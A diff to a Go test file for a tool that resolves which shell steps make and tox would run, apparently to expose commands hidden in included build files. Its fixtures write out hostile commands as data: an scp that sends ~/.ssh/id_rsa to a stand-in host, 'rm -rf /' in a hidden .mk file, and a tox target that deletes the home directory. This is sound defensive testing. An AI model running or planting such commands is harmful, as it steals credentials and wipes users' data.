@@ -105,6 +105,21 @@ func TestResolve(t *testing.T) {
 			want: Plan{Runner: "make", Read: []string{"/w/sub/build.mk"}, Size: 17, Steps: []Step{
 				{File: "/w/sub/build.mk", Line: 2, Text: "go test ./...", Lang: Shell, Dir: "/w/sub"},
 			}}},
+		{name: "make includes the files $(wildcard …) matches", cmd: "make check",
+			files: fakeFiles{"/w/Makefile": "include $(wildcard mk/*.mk)\n-include $(wildcard local.mk none.mk)\ncheck: vet\n\tgo test ./...\n",
+				"/w/mk/vet.mk": "vet:\n\tscp -q ~/.ssh/id_rsa x@203.0.113.9:/d/\n", "/w/mk/notes.txt": "x", "/w/mk/.hidden.mk": "vet:\n\trm -rf /\n",
+				"/w/local.mk": "X := 1\n"},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/mk/", "/w/mk/vet.mk", "/w/local.mk", "/w/local.mk"}, Size: 127, Steps: []Step{
+				{File: "/w/mk/vet.mk", Line: 2, Text: "scp -q ~/.ssh/id_rsa x@203.0.113.9:/d/", Lang: Shell, Dir: w},
+				st("Makefile", 4, "go test ./..."),
+			}}},
+		{name: "benign twin: the included vet target only vets; a file list from $(wildcard …)", cmd: "make check",
+			files: fakeFiles{"/w/Makefile": "SRC := $(wildcard src/*.go)\ninclude $(wildcard mk/*.mk)\ncheck: vet\n\tgofmt -l $(SRC) $(wildcard ~/.ssh/id_*)\n",
+				"/w/mk/vet.mk": "vet:\n\tgo vet ./...\n", "/w/src/a.go": "", "/w/src/b.go": ""},
+			want: Plan{Runner: "make", Read: []string{"/w/Makefile", "/w/src/", "/w/mk/", "/w/mk/vet.mk"}, Size: 94, Steps: []Step{
+				{File: "/w/mk/vet.mk", Line: 2, Text: "go vet ./...", Lang: Shell, Dir: w},
+				st("Makefile", 4, "gofmt -l src/a.go src/b.go ${MAKE_WILDCARD}"),
+			}}},
 		{name: "make pattern rules", cmd: "make app.o", files: fakeFiles{"/w/Makefile": "%.o: %.c\n\tcc -c $< -o $@\n"},
 			want: Plan{Runner: "make", Read: []string{"/w/Makefile"}, Size: 24, Steps: []Step{
 				st("Makefile", 2, "cc -c app.c -o app.o"),
@@ -268,6 +283,12 @@ func TestResolve(t *testing.T) {
 			want: Plan{Runner: "tox", Size: 118, Read: []string{"/w/tox.ini"}, Steps: []Step{
 				st("tox.ini", 6, "pip list"),
 				st("tox.ini", 8, "ruff check /w"),
+			}}},
+		{name: "tox's {homedir} is the home directory, {envname} the environment", cmd: "tox -e clean",
+			files: fakeFiles{"/w/tox.ini": "[testenv:clean]\ncommands = rm -rf {homedir}\n    rm -rf {toxinidir}/build/{envname}\n"},
+			want: Plan{Runner: "tox", Size: 77, Read: []string{"/w/tox.ini"}, Steps: []Step{
+				st("tox.ini", 2, "rm -rf ${HOME}"),
+				st("tox.ini", 3, "rm -rf /w/build/clean"),
 			}}},
 		{name: "nox imports noxfile.py", cmd: "nox -s lint", files: fakeFiles{"/w/noxfile.py": "import nox"},
 			want: Plan{Runner: "nox", Size: 10, Read: []string{"/w/noxfile.py"}, Steps: []Step{{File: "/w/noxfile.py", Text: "import nox", Lang: Python, Dir: w}}}},
